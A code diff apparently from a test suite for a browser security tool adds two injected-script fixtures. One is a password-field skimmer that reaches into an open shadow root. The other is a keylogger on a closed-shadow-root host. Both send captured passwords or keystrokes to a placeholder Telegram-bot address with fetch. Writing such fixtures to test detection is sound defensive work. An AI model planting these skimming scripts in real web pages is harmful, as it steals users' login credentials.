@@ -397,6 +397,33 @@ export const MAIN_WORLD_SCRIPTS = {
   });
 })();`,
 
+  /** The same behind a component's open shadow root (SHADOW_LOGIN): the password field is not in the document's tree. */
+  'shadow-password-path': `(() => {
+  const field = document.querySelector('shop-sign-in').shadowRoot.querySelector('[type="password"]');
+  field.addEventListener('input', () => {
+    fetch('${TELEGRAM}/' + encodeURIComponent(field.value), { mode: 'no-cors' }).catch(() => {});
+  });
+  window.__shadowPasswordPath = true;
+})();`,
+
+  /**
+   * A keylogger on the password field's host, whose closed shadow root (CLOSED_LOGIN) it cannot look into: it
+   * keeps each key and sends what it has so far in the path of its bot's address. No field is read.
+   */
+  'closed-keys-path': `(() => {
+  let keys = '';
+  const attach = () => {
+    const host = document.querySelector('shop-password-field');
+    if (!host || !window.__closedLoginReady) return void setTimeout(attach, 20);
+    host.addEventListener('keydown', (event) => {
+      keys += event.key;
+      fetch('${TELEGRAM}/' + encodeURIComponent(keys), { mode: 'no-cors' }).catch(() => {});
+    });
+    window.__closedKeysPath = true;
+  };
+  attach();
+})();`,
+
   /**
    * Image pixels that never touch `img.src`: `srcset` on a new Image, and on a <source> in a <picture>
    * (the browser fetches the candidate it picks).
